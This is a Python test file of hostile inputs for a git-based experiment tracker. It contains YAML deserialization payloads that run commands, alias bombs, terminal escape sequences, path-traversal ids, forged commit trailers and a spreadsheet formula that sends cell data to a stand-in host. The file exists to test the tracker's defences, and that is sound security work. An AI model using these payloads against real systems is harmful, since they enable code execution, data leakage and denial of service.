"""Hostile cases: YAML, CSV, commit messages, trailers, names and notes that trick whoever reads or shows them."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from functools import partial

from tests.proof.hostile_ground import EVIL, Expect, Ground, trailers

_ODD = "\x1b[2J\x1b]8;;http://evil\x07x\x1b]8;;\x07\x1b]0;title\x07\x08\x7f\x9b31m\x85\u2028\u2029\u202e\u2066\u200b\u200d\ufeff\x00\r\ta"
_MARKUP = "[bold red]x[/] [link=http://evil]y[/link] {evil} %s <b>"
_FORMULA = '=HYPERLINK("http://evil?"&A1)'
_ALIASES = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
)

_YAMLS: Mapping[str, tuple[str | bytes, bool | None]] = {  # what, and whether the run is shown
    "an alias bomb": (_ALIASES, False),
    "10,000 levels of lists": ("a: " + "[" * 10_000, False),
    "10,000 levels of mappings": ("".join(f"{'  ' * n}a:\n" for n in range(1500)), False),
    "a tag that runs a program": ("a: !!python/object/apply:os.system ['touch {ran}']\n", False),
    "a tag that makes an object": ("a: !!python/object/new:subprocess.Popen [[touch, '{ran}']]\n", False),
    "a tag of its own": ("a: !evil x\n", False),
    "a key twice": ("lr: 0.1\nlr: 0.2\n", False),
    "a merge key": ("base: {lr: 1}\nx:\n  <<: {lr: 2}\n", None),
    "the words of YAML 1.1": ("no: no\ny: 12:30:45\no: 017\nd: 2026-01-01\ne: 1e5\n=: x\n", True),
    "an integer of 100,000 digits": ("a: " + "9" * 100_000 + "\n", None),
    "a hundred integers of 4,300 digits": ("".join(f"a{n}: {'9' * 4300}\n" for n in range(100)), True),
    "a float out of range": ("a: 1e309\nb: -1e309\nc: .nan\n", True),
    "a byte order mark": (b"\xef\xbb\xbflr: 0.1\n", None),
    "UTF-16": ("lr: 0.1\n".encode("utf-16"), False),
    "no UTF-8": (b"lr: \xff\xfe\n", False),
    "a zero byte": (b"lr: 0.1\0\n", False),
    "several documents": ("lr: 1\n---\nlr: 2\n", False),
    "a list": ("- 1\n", False),
    "a scalar": ("just text\n", False),
    "keys that are no text": ("? [1, 2]\n: x\n", False),
    "a directive": ("%TAG ! tag:evil,2026:\n---\nlr: 1\n", None),
    "a key of a megabyte": ("k" * (1 << 20) + ": 1\n", None),
    "a text of 15 MB": ('a: "' + "x" * (15 << 20) + '"\n', None),
    "4 MB of lists": ("a: [" + "[]," * (1 << 20) + "]\n", None),
    "9 MB of mappings": ("".join(f"k{n}: {{}}\n" for n in range(900_000)), None),
    "100,000 params": ("".join(f"p{n}: {n}\n" for n in range(100_000)), None),
    "escape sequences in quotes": ("a: " + json.dumps(_ODD) + "\n" + json.dumps(_ODD) + ": 1\n", True),
    "escape sequences as they are": (f"a: {_ODD}\n", None),
}


def _yaml(ground: Ground, text: str | bytes, shown: bool | None) -> Expect:
    if isinstance(text, str):
        text = text.replace("{ran}", f"{ground.outside}/ran")
    ground.run({"params.yaml": text})
    return Expect(shown=shown)


def _run_yaml(ground: Ground, text: str | bytes) -> Expect:
    ground.run({"run.yaml": text})
    return Expect(shown=False, damaged=True)


def _metrics_yaml(ground: Ground, text: str | bytes) -> Expect:
    ground.run({"metrics.yaml": text})
    return Expect(damaged=True)


_CSVS: Mapping[str, str | bytes] = {
    "ragged rows": "step,timestamp,value\n0,1\n1,2,3,4\n",
    "the words of other programs": "step,timestamp,value\n0,1,NA\n1,1,NaN\n2,1,null\n3,1,Infinity\n",
    "values out of range": "step,timestamp,value\n0,1,1e309\n1,1,-1e309\n",
    "steps without an end": f"step,timestamp,value\n{'9' * 5000},{'9' * 5000},0.5\n",
    "steps of 2^70 and times of 10^30": f"step,timestamp,value\n{1 << 70},{10**30},0.5\n",
    "underscores and blanks": "step,timestamp,value\n 1_0 ,\u0661,0.5\n",
    "a line of 15 MB": "step,timestamp,value\n0,1," + "1" * (15 << 20),
    "zero bytes": b"step,timestamp,value\n0,1,0.5\0\n\0\0\0\n",
    "a byte order mark": b"\xef\xbb\xbfstep,timestamp,value\n0,1,0.5\n",
    "no UTF-8": b"step,timestamp,value\n0,1,\xff\xfe\n",
    "another header": "value,step,timestamp\n0.5,0,1\n",
    "escape sequences": f"step,timestamp,value\n0,1,{_ODD}\n",
    "quotes": 'step,timestamp,value\n"0","1","0.5"\n',
    "300,000 rows": "step,timestamp,value\n" + "".join(f"{n},1,0.5\n" for n in range(300_000)),
}


def _csv(ground: Ground, text: str | bytes) -> Expect:
    ground.run({"metrics/loss.csv": text})
    return Expect(shown=True, damaged=None)


def _message(ground: Ground, message: str | bytes, shown: bool | None = False) -> Expect:
    ground.run(message=message)
    return Expect(shown=shown)


def _forged_honest(ground: Ground, revision: object, message: str = "") -> Expect:
    """A commit that names an honest run in its trailers, while its record is another's."""
    honest = ground.git(
        "for-each-ref", "--format=%(trailers:key=Gittrack-Run,valueonly)", "refs/heads/gittrack/honest"
    )
    ground.run(message=message.format(run=honest) or trailers(honest, revision))
    return Expect()


def _two_claim_one_id(ground: Ground) -> Expect:
    """Two commits are revision 1 of one run: the same one counts in every clone."""
    ground.run()
    ground.run({"run.yaml": ground.record(name="second")["run.yaml"]}, ref="refs/remotes/other/gittrack/evil")
    return Expect(shown=True)


def _octopus(ground: Ground) -> None:
    tree = ground.tree(ground.files(ground.record()))
    parents = [ground.commit(tree, trailers(f"{n:032x}")) for n in range(1000)]
    ground.run(parents=parents)


def _dates(ground: Ground, when: bytes) -> None:
    ground.run(committer=b"Eve <eve@x> " + when, author=b"Eve <eve@x> " + when)


def _author(ground: Ground, who: bytes) -> None:
    ground.run(author=who, committer=who)


def _header(ground: Ground, extra: bytes) -> None:
    ground.run(extra=extra)


def _fields(ground: Ground, text: str) -> Expect:
    """Text in every field that is shown: names, keys, tags, note, error, source, dataset, experiment."""
    record = ground.record(name=text, experiment=text, user=text, host=text, parent=text, note=f"{text}\n{text}")
    quoted = json.dumps(text, ensure_ascii=False)
    more = f"error: {quoted}\ntags:\n  {quoted}: {quoted}\nsource:\n  kind: {quoted}\n"
    more += "".join(
        f"  {name}: {quoted}\n" for name in ("name", "command", "commit", "branch", "remote", "python", "platform")
    )
    more += (
        f"inputs:\n  '1':\n    name: {quoted}\n    digest: {quoted}\n    context: {quoted}\n{quoted}: {quoted}\n"
    )
    summary = "".join(f"  {name}: 0.5\n" for name in ("first", "last", "min", "max"))
    record["run.yaml"] = str(record["run.yaml"]) + more
    record["params.yaml"] = f"{quoted}: {quoted}\nx: {quoted}\n"
    record["metrics.yaml"] = f"{quoted}:\n{summary}  last_step: 0\n  count: 1\n"
    ground.run(record)
    _experiment(ground, text)
    return Expect()


def _experiment(ground: Ground, text: str) -> None:
    fields = {"id": "e" * 16, "name": text, "made_as": text, "lifecycle": "active", "revision": 1}
    lines = "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in fields.items())
    lines += 'created_at: "2026-01-01T00:00:00Z"\nupdated_at: "2026-01-01T00:00:00Z"\n'
    tree = ground.tree(ground.files({"experiment.yaml": lines, ".gittrack-schema": (b"100644", ground.schema)}))
    message = (
        f"experiment\n\n[skip ci]\n\nGittrack-Experiment: {'e' * 16}\nGittrack-Revision: 1\nGittrack-Schema: 1\n"
    )
    ground.ref("refs/remotes/origin/gittrack/odd", ground.commit(tree, message))


def _odd_experiments(ground: Ground) -> None:
    """Experiments' records that are none: another id than the trailers', no mapping, no file."""
    message = "x\n\nGittrack-Experiment: {}\nGittrack-Revision: 1\n"
    for number, (named, text) in enumerate(
        [("../../x", "id: a\n"), ("\x1b[2J", "- x\n"), ("0", 'id: "0"\nname: 5\n'), ("a" * 100_000, "")]
    ):
        tree = ground.tree(ground.files({"experiment.yaml": text} if text else {}))
        ground.ref(f"refs/remotes/origin/gittrack/odd{number}", ground.commit(tree, message.format(named)))


def _types(ground: Ground, field: str, value: object) -> Expect:
    record = ground.record(**{field: value})
    ground.run(record)
    return Expect()


def _times(ground: Ground) -> None:
    ground.run(ground.record(started_at="0001-01-01T00:00:00+23:59", ended_at="9999-12-31T23:59:59.999-23:59"))


_TYPES: Mapping[str, tuple[str, object]] = {
    "a name that is a number": ("name", 5),
    "a status of its own": ("status", "PWNED\x1b[2J"),
    "a revision of 10^4000": ("revision", 10**4000),
    "a time that is none": ("started_at", "yesterday\x1b[2J"),
    "a time in year 0": ("started_at", "0000-01-01T00:00:00Z"),
    "an id that is a path": ("id", "../../../outside/secret"),
    "tags that are a list": ("tags", ["a", {"b": "c"}]),
    "tags that nest": ("tags", {"a": {"b": {"c": [1, 2]}}}),
    "a source that is a text": ("source", "text"),
    "inputs that are a list": ("inputs", [1, None]),
    "a name of 5 MB": ("name", "n" * (5 << 20)),
    "a note of 5 MB": ("note", "long \x1b[2J " * (5 << 16)),
    "no name": ("name", ""),
    "lone surrogates": ("name", "\ud800 and \udfff".encode("utf-16", "surrogatepass").decode("utf-16", "replace")),
}

CASES: dict[str, Callable[[Ground], Expect | None]] = {
    **{f"params.yaml with {name}": partial(_yaml, text=text, shown=shown) for name, (text, shown) in _YAMLS.items()},
    **{f"run.yaml with {name}": partial(_run_yaml, text=_YAMLS[name][0]) for name in ("an alias bomb", "a list", "no UTF-8", "4 MB of lists")},
    **{f"metrics.yaml with {name}": partial(_metrics_yaml, text=_YAMLS[name][0]) for name in ("an alias bomb", "a key twice", "9 MB of mappings")},
    **{f"a history with {name}": partial(_csv, text=text) for name, text in _CSVS.items()},
    "trailers in the subject": partial(_message, message=f"Gittrack-Run: {EVIL} Gittrack-Revision: 1\n"),
    "trailers in the middle": partial(_message, message=trailers() + "\nSigned-off-by: Eve <e@x>\n"),
    "two blocks of trailers": partial(_message, message=trailers(more="\n") + "\n" + trailers("d" * 32), shown=None),
    "a trailer twice": partial(_message, message=trailers(more=f"Gittrack-Run: {EVIL}\n")),
    "a revision of 10^30": partial(_message, message=trailers(revision=10**30)),
    "a revision of -1": partial(_message, message=trailers(revision=-1)),
    "a revision in other digits": partial(_message, message=trailers(revision="\u0661")),
    "a run id in upper case": partial(_message, message=trailers(EVIL.upper())),
    "a run id that is a path": partial(_message, message=trailers("../../../../outside/secret")),
    "a run id with an escape sequence": partial(_message, message=trailers(EVIL[:-4] + "\x1b[2J")),
    "journals of 10^17 bytes": partial(_message, message=trailers(more=f"Gittrack-Journal: {'f' * 16}:{10**17}\n" * 3), shown=True),
    "100,000 journals": partial(_message, message=trailers(more="".join(f"Gittrack-Journal: {n:016x}:1\n" for n in range(100_000))), shown=True),
    "a message of 10 MB": partial(_message, message=trailers(subject="long " * 2_000_000), shown=True),
    "a message of zero bytes": partial(_message, message=b"\0" * 100_000),
    "a message that is no UTF-8": partial(_message, message=b"\xff\xfe\x80" + trailers().encode(), shown=None),
    "a message in CR": partial(_message, message=trailers().replace("\n", "\r")),
    "no message": partial(_message, message=b"\n"),
    "an honest run's id, revision 1": partial(_forged_honest, revision=0),
    "an honest run's id in a note": partial(_forged_honest, revision=9, message="x\n\nGittrack-Run: {run}\nGittrack-Revision: 9\n\nmore text\n"),
    "two commits that claim one run": _two_claim_one_id,
    "a commit with 1,000 parents": _octopus,
    **{
        f"a commit of the time {when.decode()[:24]}": partial(_dates, when=when)
        for when in (b"0 +0000", b"-1 +0000", b"9223372036854775808 +0000", b"18446744073709551616 +0000", b"1 +9999", b"x y", b"")
    },
    **{
        f"an author with {name}": partial(_author, who=who)
        for name, who in (
            ("escape sequences", _ODD.replace("\0", "").encode() + b" <e@x> 1 +0000"),
            ("a zero byte", b"E\0ve <e@x> 1 +0000"), ("angle brackets", b"E <v> <e@x> <> 1 +0000"),
            ("nothing", b""), ("10 MB", b"E" * 10_000_000 + b" <e@x> 1 +0000"),
        )
    },
    "a commit in another encoding": partial(_header, extra=b"encoding UTF-7\n"),
    "a commit in an encoding that runs code": partial(_header, extra=b"encoding zlib\n"),
    "a commit with a forged signature": partial(_header, extra=b"gpgsig -----BEGIN PGP SIGNATURE-----\n x\n"),
    "a commit with two trees": partial(_header, extra=b"tree " + b"4" * 40 + b"\nparent " + b"5" * 40 + b"\n"),
    "escape sequences in every field": partial(_fields, text=_ODD.replace("\0", "")),
    "markup in every field": partial(_fields, text=_MARKUP),
    "formulas in every field": partial(_fields, text=_FORMULA),
    "odd experiments": _odd_experiments,
    "times at both ends of the calendar": _times,
    **{f"run.yaml with {name}": partial(_types, field=field, value=value) for name, (field, value) in _TYPES.items()},
}  # fmt: skip
